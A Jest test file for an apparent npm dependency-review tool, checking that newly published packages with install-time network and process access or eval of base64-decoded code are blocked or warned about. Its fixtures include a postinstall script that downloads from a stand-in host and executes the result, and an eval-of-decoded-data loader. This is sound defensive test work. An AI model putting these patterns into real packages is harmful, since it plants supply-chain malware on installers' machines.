// Added packages through the whole review: what is only said of an established one speaks against a newcomer.
import { describe, expect, test } from '@jest/globals'
import { replay, withoutCooldown, type Case } from './helpers/case.ts'
import { pkg, type Block } from './helpers/world.ts'

const asOf = '2024-06-15T12:00Z'
const harmless = { 'index.js': 'exports.sum = (a, b) => a + b\n' }
const decodes = {
  'index.js': `eval(Buffer.from(require('./data.js'), 'base64').toString())\n`,
  'data.js': ''
}
const fetches = {
  'index.js': 'exports.path = __dirname\n',
  'install.js': `const cp = require('child_process')
require('https').get('https://files.example.test/kit', (answer) => cp.execFileSync(save(answer)))\n`
}
const installs = { scripts: { postinstall: 'node install.js' } }

const established = (more: Partial<Block>): readonly Block[] => [
  { versions: '1.0.0..1.9.0', at: '2018-01-01', until: '2024-01-01', by: 'alice', ...more },
  { versions: '1.9.1', at: '2024-06-10', by: 'alice', ...more }
]
const young = (more: Partial<Block>): readonly Block[] => [
  { versions: '1.9.0', at: '2024-06-01', by: 'alice', ...more },
  { versions: '1.9.1', at: '2024-06-10', by: 'alice', ...more }
]
const adding = (blocks: readonly Block[]): Case => ({
  id: 'newcomer',
  title: 'a package is added',
  asOf,
  packages: [
    pkg('other', { versions: '1.0.0..1.3.0', at: '2018-01-01', until: '2020-01-01', by: 'bob' }),
    pkg('kit', ...blocks)
  ],
  before: { dependencies: { other: '1.3.0' } },
  after: { dependencies: { other: '1.3.0', kit: '1.9.1' } }
})

const judged = async (blocks: readonly Block[]) => {
  const { changes } = await replay(adding(blocks), withoutCooldown)
  const [change] = changes
  return {
    verdict: change?.verdict,
    levels: change?.findings.map(({ signal, level }) => `${signal}: ${level}`),
    newcomer: change?.profile?.newcomer,
    kinds: change?.profile?.abilities?.can.map(
      ({ kind, onInstall }) => `${onInstall ? 'on install ' : ''}${kind}`
    )
  }
}

describe('an added package', () => {
  test('that is established and fetches a program on installing, as it always did, only gets a profile', async () => {
    expect(await judged(established({ files: fetches, ...installs }))).toEqual({
      verdict: 'pass',
      levels: [],
      newcomer: undefined,
      kinds: ['on install network', 'on install process']
    })
  })

  test('that is days old and does the same is blocked, though its release before did it too', async () => {
    expect(await judged(young({ files: fetches, ...installs }))).toMatchObject({
      verdict: 'block',
      levels: ['install-script-reach: block', 'new-package: block'],
      newcomer: 'young',
      kinds: ['on install network', 'on install process']
    })
  })

  test('that is days old and runs what it decodes is blocked, though its release before did it too', async () => {
    expect(await judged(young({ files: decodes }))).toMatchObject({
      verdict: 'block',
      levels: ['new-capability: block', 'new-package: block'],
      kinds: ['dynamic-code']
    })
  })

  test('that is days old and ordinary is told as new, and nothing more', async () => {
    const ordinary = { 'index.js': `require('https').get('https://api.example.test/')\n` }
    expect(await judged(young({ files: ordinary }))).toMatchObject({
      verdict: 'warn',
      levels: ['new-package: warn'],
      kinds: ['network']
    })
  })

  test('that can do nothing of note and is established has nothing to say', async () => {
    expect(await judged(established({ files: harmless }))).toEqual({
      verdict: 'pass',
      levels: [],
      newcomer: undefined,
      kinds: []
    })
  })
})
